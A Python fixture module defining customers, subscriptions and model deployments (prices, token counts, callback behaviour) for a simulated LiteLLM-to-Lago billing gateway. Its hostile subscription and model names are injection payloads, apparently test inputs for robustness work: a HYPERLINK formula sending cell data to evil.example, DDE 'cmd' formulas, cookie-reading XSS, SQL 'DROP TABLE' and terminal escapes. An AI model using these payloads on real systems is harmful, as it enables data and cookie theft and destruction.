"""The customers, keys and models of the simulated gateway: everything that is not drawn at random.

Shapes of rows follow what a real LiteLLM 1.109 proxy wrote (see `jobs/data/litellm-1.109.1.json`).
"""

from dataclasses import dataclass
from enum import IntEnum


class Sends(IntEnum):
    """What the callback sends for a call of a deployment."""

    TOKENS = 0
    NO_TOKENS = 1
    NOTHING = 2


@dataclass(frozen=True, slots=True)
class Subscription:
    """One subscription that end users of the gateway belong to."""

    external_id: str
    """What the client sends as `user` and Lago calls `external_subscription_id`."""
    share: float
    """Share of the ordinary traffic."""
    known_to_lago: bool = True
    """Whether Lago has such a subscription; Lago stores events for unknown ones all the same."""


@dataclass(frozen=True, slots=True)
class Deployment:
    """One model as the gateway routes to it."""

    call_type: str
    """LiteLLM's name of the call."""
    model: str
    """What the spend log holds."""
    event_model: str
    """What the callback sends."""
    model_group: str
    """The public name."""
    provider: str
    """`custom_llm_provider` of the spend log."""
    id_style: str
    """How the request id looks: a prefix, or `call` where LiteLLM's own call id takes its place."""
    endpoint: str | None
    """The endpoint that the daily tables name; none for /v1/messages and pass-through."""
    share: float
    """Share of the ordinary traffic."""
    prompt_median: int
    """Median prompt tokens."""
    completion_median: int
    """Median completion tokens."""
    spread: float
    """Sigma of the log-normal token counts."""
    prompt_price: float
    """USD per prompt token."""
    completion_price: float
    """USD per completion token."""
    duration_median_ms: int
    """Median length of a call in milliseconds."""
    sends: Sends = Sends.TOKENS
    """What the callback sends."""


SUBSCRIPTIONS = (
    Subscription("sub_acme_prod", 0.45),
    Subscription("sub_globex", 0.17),
    Subscription("sub_initech", 0.10),
    Subscription("sub_umbrella_research", 0.07),
    Subscription("sub_hooli_search", 0.05),
    Subscription("sub_stark_support", 0.04),
    Subscription("0b3c1d5e-7f70-4b6a-9a5f-4d1f2f6a9c11", 0.035),
    Subscription("team-münchen", 0.03),
    Subscription("billing@wayne.example", 0.025),
    Subscription("sub_tyrell/eu-west", 0.015),
    Subscription("sub_cyberdyne", 0.01),
    Subscription("sub_wonka_trial", 0.005),
)

HOSTILE_SUBSCRIPTIONS = (
    Subscription('=HYPERLINK("http://evil.example/?x="&A1,"Open invoice")', 0.0),
    Subscription("<script>alert(document.cookie)</script>", 0.0),
    Subscription("@SUM(1+1)*cmd|' /C calc'!A0", 0.0, known_to_lago=False),
    Subscription('+1-800,quoted "name"; DROP TABLE x;--', 0.0, known_to_lago=False),
    Subscription("first line\nsecond line\r\n\tthird", 0.0, known_to_lago=False),
    Subscription("bell\x07 and \x1b[31mred\x1b[0m", 0.0, known_to_lago=False),
    Subscription("\u202egnp.exe \U0001f9fe caf\u0065\u0301 \u6771\u4eac", 0.0, known_to_lago=False),
    Subscription("long-" + "x" * 320, 0.0, known_to_lago=False),
)

STARCODER, GPT_4O, EMBEDDING, CLAUDE, LLAMA = range(5)
INTERACTIVE = (STARCODER, GPT_4O, CLAUDE, LLAMA)

DEPLOYMENTS = (
    Deployment(
        "acompletion",
        "openai/starcoder",
        "starcoder",
        "gpt-public",
        "openai",
        "chatcmpl-",
        "/chat/completions",
        0.34,
        420,
        160,
        0.9,
        1e-06,
        2e-06,
        1_900,
    ),
    Deployment(
        "acompletion",
        "openai/gpt-4o",
        "gpt-4o",
        "gpt-4o-pub",
        "openai",
        "chatcmpl-",
        "/chat/completions",
        0.17,
        900,
        240,
        1.0,
        2.5e-06,
        1e-05,
        3_800,
    ),
    Deployment(
        "aembedding",
        "openai/kserve/gte-large/v1",
        "kserve/gte-large/v1",
        "kserve/gte-large/v1",
        "openai",
        "call",
        "/embeddings",
        0.17,
        70,
        0,
        0.8,
        0.0,
        0.0,
        60,
    ),
    Deployment(
        "anthropic_messages",
        "anthropic/claude-3-5-sonnet-20241022",
        "claude-3-5-sonnet-20241022",
        "claude",
        "anthropic",
        "msg_",
        None,
        0.11,
        2_600,
        320,
        1.0,
        3e-06,
        1.5e-05,
        6_500,
    ),
    Deployment(
        "acompletion",
        "hosted_vllm/meta-llama/Llama-3.1-8B-Instruct",
        "meta-llama/Llama-3.1-8B-Instruct",
        "llama",
        "hosted_vllm",
        "chatcmpl-",
        "/chat/completions",
        0.10,
        310,
        90,
        0.8,
        2e-07,
        2e-07,
        900,
    ),
    Deployment(
        "atext_completion",
        "text-completion-openai/gpt-3.5-turbo-instruct",
        "gpt-3.5-turbo-instruct",
        "instruct",
        "text-completion-openai",
        "cmpl-",
        "/completions",
        0.025,
        120,
        60,
        0.7,
        1.5e-06,
        2e-06,
        1_200,
        Sends.NO_TOKENS,
    ),
    Deployment(
        "aresponses",
        "openai/gpt-4.1",
        "gpt-4.1",
        "gpt-4.1-pub",
        "openai",
        "resp_",
        "/responses",
        0.02,
        900,
        350,
        0.9,
        2e-06,
        8e-06,
        5_200,
        Sends.NO_TOKENS,
    ),
    Deployment(
        "aimage_generation",
        "openai/gpt-image-1",
        "gpt-image-1",
        "img",
        "openai",
        "call",
        "/images/generations",
        0.004,
        24,
        1_056,
        0.4,
        5e-06,
        4e-05,
        14_000,
        Sends.NO_TOKENS,
    ),
    Deployment(
        "atranscription",
        "openai/gpt-4o-transcribe",
        "gpt-4o-transcribe",
        "stt",
        "openai",
        "call",
        "/audio/transcriptions",
        0.005,
        180,
        140,
        0.7,
        2.5e-06,
        1e-05,
        3_000,
        Sends.NO_TOKENS,
    ),
    Deployment(
        "arerank",
        "cohere/rerank-english-v3.0",
        "rerank-english-v3.0",
        "rerank",
        "cohere",
        "rr-",
        "/rerank",
        0.02,
        60,
        0,
        0.6,
        2e-06,
        0.0,
        180,
        Sends.NO_TOKENS,
    ),
    Deployment(
        "aspeech",
        "openai/tts-1",
        "tts-1",
        "tts",
        "openai",
        "call",
        "/audio/speech",
        0.004,
        0,
        0,
        0.0,
        0.0,
        0.0,
        2_500,
        Sends.NOTHING,
    ),
    Deployment(
        "amoderation",
        "openai/omni-moderation-latest",
        "omni-moderation-latest",
        "mod",
        "openai",
        "modr-",
        "/moderations",
        0.03,
        0,
        0,
        0.0,
        0.0,
        0.0,
        150,
        Sends.NO_TOKENS,
    ),
    Deployment(
        "pass_through_endpoint",
        "internal-classifier",
        "internal-classifier",
        "",
        "",
        "call",
        None,
        0.002,
        0,
        0,
        0.0,
        0.0,
        0.0,
        300,
        Sends.NOTHING,
    ),
    Deployment(
        "aget_responses",
        "openai/gpt-4.1",
        "gpt-4.1",
        "gpt-4.1-pub",
        "openai",
        "resp_",
        None,
        0.0,
        900,
        350,
        0.9,
        2e-06,
        8e-06,
        120,
        Sends.NOTHING,
    ),
    *(
        Deployment(
            "acompletion",
            f"openai/{model}",
            model,
            model,
            "openai",
            "chatcmpl-",
            "/chat/completions",
            0.0,
            50,
            20,
            0.8,
            0.0,
            0.0,
            700,
        )
        for model in ("=cmd|' /C calc'!A0", "<img src=x onerror=alert(1)>", 'two\nlines,"quoted"')
    ),
)

SPEECH = next(i for i, d in enumerate(DEPLOYMENTS) if d.call_type == "aspeech")
PASS_THROUGH = next(i for i, d in enumerate(DEPLOYMENTS) if d.call_type == "pass_through_endpoint")
RESPONSES = next(i for i, d in enumerate(DEPLOYMENTS) if d.call_type == "aresponses")
GET_RESPONSES = next(i for i, d in enumerate(DEPLOYMENTS) if d.call_type == "aget_responses")
HOSTILE_DEPLOYMENTS = tuple(range(GET_RESPONSES + 1, len(DEPLOYMENTS)))

ALL_SUBSCRIPTIONS = SUBSCRIPTIONS + HOSTILE_SUBSCRIPTIONS
KEYS_PER_SUBSCRIPTION = 3
# Where LiteLLM pins keys: the customer whose first call pinned a key, and those who call with it besides.
PINNED_CUSTOMER, SHARING_CUSTOMERS = 7, (6, 8)
SHARED_KEY = PINNED_CUSTOMER * KEYS_PER_SUBSCRIPTION + 2
HEALTH_CHECK_KEY = "litellm-internal-health-check"
INTERNAL_JOBS_KEY = "litellm_internal_jobs"
